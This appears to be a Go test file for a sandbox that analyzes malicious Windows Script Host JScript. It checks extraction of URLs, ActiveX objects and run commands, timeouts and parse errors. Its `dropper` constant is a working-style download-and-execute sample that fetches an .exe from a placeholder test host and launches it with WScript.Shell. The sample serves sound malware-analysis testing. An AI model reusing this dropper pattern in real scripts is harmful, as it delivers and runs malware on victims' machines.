package engine

import (
	"bytes"
	"context"
	"errors"
	"testing"

	"github.com/arturoeanton/wshbox/analyzer"
	"github.com/arturoeanton/wshbox/ioc"
	"github.com/arturoeanton/wshbox/logger"
	"github.com/arturoeanton/wshbox/rewrite"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestAnalyzer(t *testing.T) *Analyzer {
	t.Helper()
	config := DefaultConfig()
	config.Sandbox.TimeoutSeconds = 5
	log := logger.New("test", logger.LevelError)
	log.SetOutput(&bytes.Buffer{})
	a := NewAnalyzer(config, log)
	t.Cleanup(a.Close)
	return a
}

const dropper = `
function Math.fetch(u) {
	var x = new ActiveXObject("MSXML2.XMLHTTP");
	x.open("GET", u, false);
	x.send();
	return x.status;
}
var host = "http://ex" + "ample.test/a.exe";
if (Math.fetch(host) == 200) {
	eval("new ActiveXObject('WScript.Shell').Run('cmd /c start a.exe', 0)");
}
`

func TestAnalyzeDropper(t *testing.T) {
	a := newTestAnalyzer(t)

	var seen int
	a.OnEvent(func(ioc.Event) { seen++ })

	res, err := a.Analyze(context.Background(), "dropper.js", []byte(dropper))
	require.NoError(t, err)

	assert.Equal(t, StateCompleted, res.State)
	assert.Equal(t, ExitOK, res.ExitCode)
	assert.NotEmpty(t, res.ID)
	assert.Len(t, res.SHA256, 64)
	assert.Equal(t, len(dropper), res.Size)
	assert.Contains(t, res.Passes, "member-functions")
	assert.NotContains(t, res.Rewritten, "function Math.fetch")

	assert.Equal(t, []string{"http://example.test/a.exe"}, res.URLs)
	assert.Equal(t, []string{"MSXML2.XMLHTTP", "WScript.Shell"}, analyzer.Values(res.Findings, "activex_object"))
	require.NotEmpty(t, res.Snippets)
	assert.Contains(t, res.Snippets[0].Source, "cmd /c start a.exe")

	var commands []string
	for _, e := range res.Events {
		if e.Category == ioc.CategoryCommandRun {
			commands = append(commands, e.Payload["command"].(string))
		}
	}
	assert.Equal(t, []string{"cmd /c start a.exe"}, commands)
	assert.Equal(t, len(res.Events), seen)
}

func TestAnalyzeUnknownObject(t *testing.T) {
	a := newTestAnalyzer(t)
	res, err := a.Analyze(context.Background(), "excel.js", []byte(`new ActiveXObject("Excel.Application");`))

	var unknown *UnknownObjectError
	require.True(t, errors.As(err, &unknown))
	assert.Equal(t, StateFaulted, res.State)
	assert.Equal(t, ExitUnknownObject, res.ExitCode)
	assert.Equal(t, "Unknown ActiveXObject Excel.Application", res.Error)
}

func TestAnalyzeEncodedScriptHint(t *testing.T) {
	a := newTestAnalyzer(t)
	res, err := a.Analyze(context.Background(), "sample.JSE", []byte("var = ;"))

	var perr *ParseError
	require.True(t, errors.As(err, &perr))
	assert.Equal(t, rewrite.EncodedScriptHint, perr.Hint)
	assert.Equal(t, ExitParseError, res.ExitCode)
	assert.Equal(t, StateFaulted, res.State)
}

func TestAnalyzeQuitCode(t *testing.T) {
	a := newTestAnalyzer(t)
	res, err := a.Analyze(context.Background(), "quit.js", []byte(`WScript.Quit(9);`))
	require.NoError(t, err)
	require.NotNil(t, res.QuitCode)
	assert.Equal(t, 9, *res.QuitCode)
}

func TestAnalyzeTimeout(t *testing.T) {
	a := newTestAnalyzer(t)
	a.config.Sandbox.TimeoutSeconds = 1
	res, err := a.Analyze(context.Background(), "spin.js", []byte(`WScript.Sleep(1); while (true) {}`))
	assert.ErrorIs(t, err, ErrTimeout)
	assert.Equal(t, StateTimedOut, res.State)
	assert.Equal(t, ExitTimeout, res.ExitCode)
	assert.NotEmpty(t, res.Events)
}

func TestAnalyzeRunListeners(t *testing.T) {
	a := newTestAnalyzer(t)
	var first, second []string
	_, err := a.Analyze(context.Background(), "one.js", []byte(`WScript.Sleep(10);`),
		func(e ioc.Event) { first = append(first, e.Category) })
	require.NoError(t, err)
	_, err = a.Analyze(context.Background(), "two.js", []byte(`WScript.Quit(0);`),
		func(e ioc.Event) { second = append(second, e.Category) })
	require.NoError(t, err)

	assert.Equal(t, []string{ioc.CategorySleep}, first)
	assert.Equal(t, []string{ioc.CategoryQuit}, second)
}

func TestInspectDoesNotRun(t *testing.T) {
	a := newTestAnalyzer(t)
	var events int
	a.OnEvent(func(ioc.Event) { events++ })
	res, err := a.Inspect(context.Background(), "drop.js", []byte(dropper))
	require.NoError(t, err)
	assert.NotEmpty(t, res.Rewritten)
	assert.NotEmpty(t, res.Findings)
	assert.Equal(t, StateIdle, res.State)
	assert.Zero(t, events)
}
